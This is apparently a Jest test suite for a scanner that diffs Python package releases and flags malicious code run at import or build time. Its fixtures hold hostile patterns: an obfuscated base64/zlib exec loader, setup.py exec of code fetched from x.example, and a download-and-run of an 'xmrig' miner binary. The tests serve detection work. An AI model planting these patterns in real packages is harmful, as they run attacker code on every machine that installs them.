// Code analysis as Python runs it (issue 27, item 1): names imported by string, calls through the
// package's own functions at import time, downloads that are run, and capabilities per import package.
import { describe, expect, it } from '@jest/globals'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { CHAIN_DEPTH } from '../../src/analysis/call-chains.js'
import { diffArchives } from '../../src/pipeline/index.js'
import type { Finding } from '../../src/report/types.js'
import { buildDistributions, withPython, writeDemoProject } from '../helpers/python-build.js'
import { buildSdist, tempDir, type SdistSpec } from '../helpers/sdist.js'

async function compare(before: SdistSpec['files'], after: SdistSpec['files']): Promise<Finding[]> {
  const base = {
    'demo/__init__.py': '"""Demo."""\n',
    'setup.py': 'from setuptools import setup\nsetup()\n'
  }
  const previous = buildSdist(tempDir(), { files: { ...base, ...before } })
  const current = buildSdist(tempDir(), { version: '1.1', files: { ...base, ...after } })
  return (await diffArchives(previous, current)).findings
}

const hits = (findings: Finding[], rule: string) =>
  findings.filter(f => f.rule === rule).map(f => [f.severity, f.message])

const IMPORT_TIME = 'at import time: it runs on every machine that imports the package'

describe('names imported by string', () => {
  it('an obfuscated exec in a helper module __init__ imports is found (aiocpa 2024, num2words 2025)', async () => {
    const helper = [
      '"""Utilities."""',
      "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))",
      "exec((_)(b'=Aw3RmbvdHKl5WZwNmLzR3cvBnbpt2Z'))"
    ].join('\n')
    const findings = await compare(
      { 'demo/__init__.py': 'from . import sync\n', 'demo/sync.py': 'X = 1\n' },
      { 'demo/__init__.py': 'from . import sync\n', 'demo/sync.py': helper }
    )
    expect(hits(findings, 'suspicious-code')).toEqual([
      ['high', `demo/sync.py:3 decodes and executes data (exec) ${IMPORT_TIME}`]
    ])
  })

  it('a module that reaches subprocess only by name, with no import statement, is read', async () => {
    const helper = "run = __import__('importlib').import_module('subprocess').Popen\nrun(['id'])\n"
    const findings = await compare({}, { 'demo/_util.py': helper })
    expect(hits(findings, 'suspicious-code')).toEqual([
      ['high', `demo/_util.py:2 spawns a process (subprocess.Popen) ${IMPORT_TIME}`]
    ])
  })
})

const FETCH =
  'import subprocess\n\n\ndef fetch():\n    subprocess.run(["curl", "-O", "https://x.example/a"])\n'

describe('calls through the package’s own functions at import time', () => {
  it('a module-level call of a function of the same module runs it on import', async () => {
    const module = FETCH + '\n\n_ = fetch()\n'
    const findings = await compare({}, { 'demo/net.py': module })
    expect(hits(findings, 'suspicious-code')).toEqual([
      [
        'high',
        'demo/net.py:5 spawns a process (subprocess.run) at import time via `fetch()` at demo/net.py:8: it runs on every machine that imports the package'
      ]
    ])
    expect(hits(findings, 'capability-added')).toEqual([])
  })

  it.each([
    ['from .helpers import fetch', 'fetch()'],
    ['from demo.helpers import fetch', 'fetch()'],
    ['import demo.helpers', 'demo.helpers.fetch()'],
    ['from . import helpers', 'class Config:\n    ready = helpers.fetch()']
  ])(
    '`%s` then a call on import runs a function of a module the release did not change',
    async (imports, call) => {
      const init = `"""Demo."""\n${imports}\n${call}\n`
      const findings = await compare(
        { 'demo/helpers.py': FETCH },
        { 'demo/helpers.py': FETCH, 'demo/__init__.py': init }
      )
      expect(hits(findings, 'suspicious-code')).toEqual([
        [
          'high',
          `demo/helpers.py:5 spawns a process (subprocess.run) at import time via \`fetch()\` at demo/__init__.py:${init.split('\n').length - 1}: it runs on every machine that imports the package`
        ]
      ])
    }
  )

  it('a changed function that an unchanged module calls on import, directly or through its own function', async () => {
    const harmless = 'def fetch():\n    return None\n'
    const direct = '"""Demo."""\nfrom .helpers import fetch\nfetch()\n'
    const through =
      '"""Demo."""\nfrom .helpers import fetch\n\n\ndef _setup():\n    fetch()\n\n\n_setup()\n'
    const cases: [string, string][] = [
      [direct, '`fetch()` at demo/__init__.py:3'],
      [through, '`_setup()` at demo/__init__.py:9 → `fetch()` at demo/__init__.py:6']
    ]
    for (const [init, via] of cases) {
      const findings = await compare(
        { 'demo/__init__.py': init, 'demo/helpers.py': harmless },
        { 'demo/__init__.py': init, 'demo/helpers.py': FETCH }
      )
      expect(hits(findings, 'suspicious-code')).toEqual([
        [
          'high',
          `demo/helpers.py:5 spawns a process (subprocess.run) at import time via ${via}: it runs on every machine that imports the package`
        ]
      ])
    }
  })

  it(`follows calls ${CHAIN_DEPTH} deep and no deeper`, async () => {
    const chain = (depth: number) => {
      const files: Record<string, string> = {
        'demo/__init__.py': '"""Demo."""\nfrom .m1 import f1\nf1()\n'
      }
      for (let i = 1; i < depth; i++)
        files[`demo/m${i}.py`] =
          `from .m${i + 1} import f${i + 1}\n\n\ndef f${i}():\n    f${i + 1}()\n`
      files[`demo/m${depth}.py`] = FETCH.replace('fetch', `f${depth}`)
      return files
    }
    const reached = await compare({}, chain(CHAIN_DEPTH))
    expect(hits(reached, 'suspicious-code')).toEqual([
      [
        'high',
        `demo/m3.py:5 spawns a process (subprocess.run) at import time via \`f1()\` at demo/__init__.py:3 → \`f2()\` at demo/m1.py:5 → \`f3()\` at demo/m2.py:5: it runs on every machine that imports the package`
      ]
    ])
    const deeper = await compare({}, chain(CHAIN_DEPTH + 1))
    expect(hits(deeper, 'suspicious-code')).toEqual([])
  })

  it('a chain the previous release already ran on import is not new; the version bump is not a finding', async () => {
    const init = (version: string) =>
      `__version__ = "${version}"\nfrom .helpers import fetch\nfetch()\n`
    const findings = await compare(
      { 'demo/helpers.py': FETCH, 'demo/__init__.py': init('1.0') },
      { 'demo/helpers.py': FETCH, 'demo/__init__.py': init('1.1') }
    )
    expect(hits(findings, 'suspicious-code')).toEqual([])
  })

  it('a function defined inside the called one (a property getter a factory returns) does not run on import', async () => {
    const module = [
      'import subprocess',
      '',
      '',
      'def _set_property(name):',
      '    def fget(self):',
      '        return subprocess.run(["git", "config", name])',
      '    return property(fget)',
      '',
      '',
      'class Response:',
      '    vary = _set_property("vary")',
      ''
    ].join('\n')
    const findings = await compare({}, { 'demo/response.py': module })
    expect(hits(findings, 'suspicious-code')).toEqual([])
  })

  it('a call under `if __name__ == "__main__"` or inside a function does not run on import', async () => {
    const module =
      FETCH + '\n\ndef main():\n    fetch()\n\n\nif __name__ == "__main__":\n    fetch()\n'
    const findings = await compare({}, { 'demo/net.py': module })
    expect(hits(findings, 'suspicious-code')).toEqual([])
  })
})

const DOWNLOAD_AND_RUN = [
  'import os',
  'import subprocess',
  'from urllib.request import urlretrieve',
  '',
  '',
  'def safe_download(url, path):',
  '    urlretrieve(url, path)',
  '    os.chmod(path, 0o755)',
  '    subprocess.Popen([path], stdout=subprocess.DEVNULL)',
  ''
].join('\n')

describe('downloads and runs code', () => {
  it('setup.py exec(urlopen(…).read()) says the download is executed at build time', async () => {
    const setup =
      'from urllib.request import urlopen\nexec(urlopen("https://x.example/s.py").read())\nfrom setuptools import setup\nsetup()\n'
    const findings = await compare({}, { 'setup.py': setup })
    expect(hits(findings, 'suspicious-code')).toEqual([
      [
        'high',
        'setup.py:2 downloads and runs code (urllib.request.urlopen → exec) at build time: it runs on every machine that builds or installs this sdist'
      ]
    ])
  })

  it('a function that downloads a binary and Popens it, called on import from the same module and from __init__.py (ultralytics 2024)', async () => {
    const sameModule = await compare(
      { 'demo/utils/__init__.py': '' },
      {
        'demo/utils/__init__.py': '',
        'demo/utils/downloads.py': `${DOWNLOAD_AND_RUN}\nsafe_download("https://x.example/xmrig", "/tmp/.x")\n`
      }
    )
    expect(hits(sameModule, 'suspicious-code')).toEqual([
      [
        'high',
        `demo/utils/downloads.py:9 downloads and runs code (urllib.request.urlretrieve → subprocess.Popen) at import time via \`safe_download()\` at demo/utils/downloads.py:11: it runs on every machine that imports the package`
      ]
    ])
    const fromInit = await compare(
      {
        'demo/utils/__init__.py': '',
        'demo/utils/downloads.py': DOWNLOAD_AND_RUN,
        'scripts/release.py': 'import subprocess\nsubprocess.run(["twine", "upload"])\n'
      },
      {
        'demo/utils/__init__.py': '',
        'demo/utils/downloads.py': DOWNLOAD_AND_RUN,
        'scripts/release.py': 'import subprocess\nsubprocess.run(["twine", "upload"])\n',
        'demo/__init__.py':
          '"""Demo."""\nfrom .utils.downloads import safe_download\nsafe_download("https://x.example/xmrig", "/tmp/.x")\n'
      }
    )
    expect(hits(fromInit, 'suspicious-code')).toEqual([
      [
        'high',
        'demo/utils/downloads.py:9 downloads and runs code (urllib.request.urlretrieve → subprocess.Popen) at import time via `safe_download()` at demo/__init__.py:3: it runs on every machine that imports the package'
      ]
    ])
  })

  it('a new download-and-run when called is a new capability', async () => {
    const findings = await compare({}, { 'demo/downloads.py': DOWNLOAD_AND_RUN })
    expect(hits(findings, 'capability-added')).toEqual([
      [
        'medium',
        'new capability: demo/downloads.py:9 downloads and runs code (urllib.request.urlretrieve → subprocess.Popen) when called; no module of `demo` in the previous release did this'
      ]
    ])
    expect(hits(findings, 'suspicious-code')).toEqual([])
  })
})

describe('capabilities compared per import package', () => {
  const runner = 'import subprocess\n\n\ndef run(cmd):\n    return subprocess.run(cmd)\n'
  const release = 'import subprocess\nsubprocess.run(["twine", "upload", "dist/*"])\n'

  it('a previous release’s development scripts/ using subprocess do not hide the package’s new use', async () => {
    const findings = await compare(
      { 'scripts/release.py': release, 'tests/test_cli.py': release },
      { 'scripts/release.py': release, 'tests/test_cli.py': release, 'demo/run.py': runner }
    )
    expect(hits(findings, 'capability-added')).toEqual([
      [
        'medium',
        'new capability: demo/run.py:5 spawns a process (subprocess.run) when called; no module of `demo` in the previous release did this'
      ]
    ])
  })

  it('a developer script that gains a network call is no capability of the package', async () => {
    const check =
      'import httpx\n\n\nasync def check(url):\n    return await httpx.AsyncClient().get(url)\n'
    const findings = await compare(
      { 'scripts/release.py': release },
      { 'scripts/release.py': release, 'scripts/check_links.py': check }
    )
    expect(hits(findings, 'capability-added')).toEqual([])
  })

  it('a module of the same package that already spawned processes does', async () => {
    const findings = await compare(
      { 'src/demo/tools.py': runner },
      { 'src/demo/tools.py': runner, 'src/demo/more.py': runner.replace('run(cmd)', 'more(cmd)') }
    )
    expect(hits(findings, 'capability-added')).toEqual([])
  })
})

describe('in a wheel', () => {
  const withFlit = withPython(['flit_core'], 'python3-flit', 'the wheel call-chain test')

  withFlit(
    'a module the wheel did not change is read again from the zip to follow a chain',
    async () => {
      const wheel = (version: string, init: string) => {
        const dir = tempDir()
        const folder = writeDemoProject(dir, 'flit', 'demo-chain', version)
        writeFileSync(join(folder, 'helpers.py'), FETCH)
        writeFileSync(
          join(folder, '__init__.py'),
          `"""A demo."""\n__version__ = "${version}"\n${init}`
        )
        return buildDistributions(dir, '--wheel').wheel
      }
      const previous = wheel('1.0', '')
      const current = wheel('1.1', 'from .helpers import fetch\nfetch()\n')
      const { findings } = await diffArchives(previous, current)
      expect(hits(findings, 'suspicious-code')).toEqual([
        [
          'high',
          'demo_chain/helpers.py:5 spawns a process (subprocess.run) at import time via `fetch()` at demo_chain/__init__.py:4: it runs on every machine that imports the package'
        ]
      ])
    }
  )
})
